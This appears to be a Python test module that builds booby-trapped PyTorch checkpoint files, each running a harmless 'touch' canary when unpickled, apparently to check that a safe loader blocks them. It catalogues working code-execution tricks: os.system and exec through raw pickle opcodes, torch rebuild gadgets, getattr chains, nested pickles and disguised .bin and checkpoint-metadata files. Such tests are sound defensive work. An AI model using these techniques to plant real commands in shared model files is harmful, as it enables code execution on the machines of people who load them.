"""Pickles that run something when they are loaded."""

from __future__ import annotations

import os
import pickle

from attacks.registry import Calls, attack, legacy, torch_zip


@attack
def os_system_in_a_zip(folder, canary):
    return torch_zip(folder / "a.pt", pickle.dumps(Calls(os.system, f"touch {canary}"), 2))


@attack
def os_system_in_the_legacy_format(folder, canary):
    return legacy(folder / "a.pt", pickle.dumps(Calls(os.system, f"touch {canary}"), 2))


@attack
def os_system_beside_weights(folder, canary):
    import torch

    path = folder / "a.pt"
    torch.save({"w": torch.ones(2, 2), "x": Calls(os.system, f"touch {canary}")}, path)
    return path


@attack
def eval_in_protocol_0(folder, canary):
    code = f"open({str(canary)!r}, 'w')"
    return torch_zip(folder / "a.pt", pickle.dumps(Calls(eval, code), 0))


@attack
def exec_by_inst(folder, canary):
    pickled = b"(S\"open('%s','w')\"\nibuiltins\nexec\n." % str(canary).encode()
    return torch_zip(folder / "a.pt", pickled)


@attack
def exec_by_obj(folder, canary):
    pickled = b"(cbuiltins\nexec\nS\"open('%s','w')\"\no." % str(canary).encode()
    return torch_zip(folder / "a.pt", pickled)


@attack
def gadget_through_rebuild_from_type(folder, canary):
    """torch's own rebuild function calls the function it is given."""
    import torch

    call = Calls(torch._tensor._rebuild_from_type_v2, os.system, dict, (f"touch {canary}",), {})
    return torch_zip(folder / "a.pt", pickle.dumps({"w": call}, 2))


@attack
def gadget_through_an_allowed_class(folder, canary):
    """An OrderedDict whose state sets a method; a hook that an allowed class would call."""
    from collections import OrderedDict

    inner = pickle.dumps(Calls(os.system, f"touch {canary}"), 2)[2:-1]
    pickled = b"\x80\x02ccollections\nOrderedDict\n)R(U\x04hook" + inner + b"ub."
    assert OrderedDict
    return torch_zip(folder / "a.pt", pickled)


@attack
def attribute_path_in_a_global(folder, canary):
    """Protocol 4 reaches os through an innocent module."""
    name, path = b"os.system", f"touch {canary}".encode()
    pickled = (
        b"\x80\x04\x8c\x13torch.serialization\x8c" + bytes([len(name)]) + name + b"\x93"
        b"X" + len(path).to_bytes(4, "little") + path + b"\x85R."
    )
    return torch_zip(folder / "a.pt", pickled)


@attack
def getattr_chain(folder, canary):
    call = Calls(getattr, Calls(__import__, "os"), "system")
    return torch_zip(folder / "a.pt", pickle.dumps(call, 2))


@attack
def pickle_inside_a_pickle(folder, canary):
    inner = pickle.dumps(Calls(os.system, f"touch {canary}"))
    return torch_zip(folder / "a.pt", pickle.dumps(Calls(pickle.loads, inner), 2))


@attack
def torch_load_as_a_call(folder, canary):
    import torch

    return torch_zip(folder / "a.pt", pickle.dumps(Calls(torch.load, str(canary)), 2))


@attack
def extension_registry(folder, canary):
    return torch_zip(folder / "a.pt", b"\x80\x02\x82\x01)R.")


@attack
def plain_pickle_called_bin(folder, canary):
    path = folder / "pytorch_model.bin"
    path.write_bytes(pickle.dumps(Calls(os.system, f"touch {canary}")))
    return path


@attack
def distributed_metadata(folder, canary):
    (folder / "dcp").mkdir()
    payload = pickle.dumps(Calls(os.system, f"touch {canary}"))
    (folder / "dcp" / ".metadata").write_bytes(payload)
    (folder / "dcp" / "__0_0.distcp").write_bytes(b"")
    return folder / "dcp"
